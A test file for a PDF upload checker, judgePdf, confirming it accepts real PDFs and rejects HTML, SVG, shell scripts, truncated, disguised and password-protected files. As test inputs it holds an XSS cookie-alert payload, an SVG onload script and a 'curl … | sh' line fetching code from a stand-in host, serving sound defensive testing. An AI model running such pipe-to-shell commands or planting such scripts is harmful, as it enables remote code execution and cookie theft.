// What counts as a PDF (docs/product/listing-documents.md, What is a PDF): the content decides, never the name.
import { PDFDocument } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { judgePdf } from "./check-pdf.server.ts";
import { testPdf } from "./testing/document-fixtures.ts";

const text = (value: string) => new Uint8Array(Buffer.from(value));

describe("judgePdf", () => {
  it("takes a real PDF", async () => {
    expect(await judgePdf(await testPdf())).toBeNull();
  });

  it("refuses an HTML page and a script, whatever they are named", async () => {
    expect(await judgePdf(text("<!doctype html><html><script>alert(document.cookie)</script></html>"))).toBe("notPdf");
    expect(await judgePdf(text("#!/bin/sh\ncurl https://example.com/x | sh\n"))).toBe("notPdf");
    expect(await judgePdf(text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"))).toBe("notPdf");
    expect(await judgePdf(new Uint8Array(0))).toBe("notPdf");
  });

  it("refuses HTML behind a PDF header and end marker as a PDF it cannot read", async () => {
    expect(await judgePdf(text("%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n"))).toBe("broken");
  });

  it("refuses a PDF cut off before its end", async () => {
    const whole = await testPdf();
    expect(await judgePdf(whole.subarray(0, Math.floor(whole.length / 2)))).toBe("broken");
  });

  it("refuses a PDF protected by a password, with its own reason", async () => {
    const pdf = await PDFDocument.create();
    pdf.addPage();
    pdf.encrypt({ userPassword: "secret", ownerPassword: "owner" });
    expect(await judgePdf(await pdf.save())).toBe("encrypted");
  });

  it("reads the PDF versions of the header, from 1.0 to 2.0, and no other", async () => {
    const bytes = await testPdf();
    const withHeader = (header: string) => new Uint8Array([...Buffer.from(header), ...bytes.subarray(8)]);
    expect(await judgePdf(withHeader("%PDF-2.0"))).toBeNull();
    expect(await judgePdf(withHeader("%PDF-1.0"))).toBeNull();
    expect(await judgePdf(withHeader("%PDF-3.0"))).toBe("notPdf");
  });
});
